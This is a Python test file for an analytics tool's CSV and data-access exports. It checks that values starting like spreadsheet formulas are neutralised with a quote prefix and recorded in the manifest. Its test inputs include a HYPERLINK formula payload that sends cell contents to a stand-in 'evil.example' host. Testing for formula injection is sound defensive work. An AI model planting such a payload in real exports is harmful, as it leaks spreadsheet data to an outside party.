"""Issue 13, finding 6: a CSV export must not carry a spreadsheet formula a visitor sent.

Hits whose event name, campaign value and page path start like formulas (``=``, ``+``, ``-``,
``@``, a quote) go through a real collector; ``mesure export --format csv`` and ``mesure dsar
access --format csv`` (real processes) write them. No cell of either file may start a formula;
every such cell starts with the quote the manifest states, and dropping it gives the stored value
back; ``mesure export verify`` still verifies.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

from collector.config import Config
from tests.privacy.support import SITE, events, run_mesure, send, write_data_dir
from tests.support import Clock, LiveServer

USER_ID = "csv-person-81"
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)", "'=1"]
Live = Callable[[Config, Clock], LiveServer]


def _cells(folder: Path) -> list[str]:
    cells: list[str] = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as file:
            for row in list(csv.reader(file))[1:]:
                cells += row
    return cells


def test_csv_exports_defuse_formula_cells_and_say_so(
    tmp_path: Path, clock: Clock, live: Live
) -> None:
    config = write_data_dir(tmp_path / "data")
    server = live(config, clock)
    send(
        server,
        *(
            {
                "mode": "granted",
                "cid": "csv-client",
                "uid": USER_ID,
                "name": formula,
                "url": f"https://shop.example/p?utm_campaign={formula.replace('&', '%26')}",
            }
            for formula in FORMULAS
        ),
    )
    server.stop()
    stored = {row["name"] for row in events(config)} | {
        row["utm_campaign"] for row in events(config)
    }
    assert set(FORMULAS) <= stored  # stored as sent: only the CSV writer changes them
    day = clock().date().isoformat()
    out = config.data_dir / "exports" / "csv"
    run_mesure(config.data_dir, "export", "--from", day, "--to", day, "--format", "csv",
            "--out", str(out))  # fmt: skip
    access = config.data_dir / "exports" / "access"
    run_mesure(config.data_dir, "dsar", "access", "--site", SITE, "--user-id", USER_ID,
            "--format", "csv", "--out", str(access))  # fmt: skip
    for folder in (out, access):
        cells = _cells(folder)
        assert cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        quoted = {cell[1:] for cell in cells if cell.startswith("'")}
        assert set(FORMULAS) <= quoted
        rule = json.loads((folder / "manifest.json").read_bytes())["csv_formula_cells"]
        assert rule["prefix"] == "'"
        assert set(rule["starting_with"]) >= {"=", "+", "-", "@", "\t", "\r", "'"}
        assert "export verified" in run_mesure(config.data_dir, "export", "verify", str(folder))
    # The other formats hold the values as stored and say nothing of CSV.
    ndjson = config.data_dir / "exports" / "ndjson"
    run_mesure(config.data_dir, "export", "--from", day, "--to", day, "--out", str(ndjson))
    assert json.loads((ndjson / "manifest.json").read_bytes())["csv_formula_cells"] is None
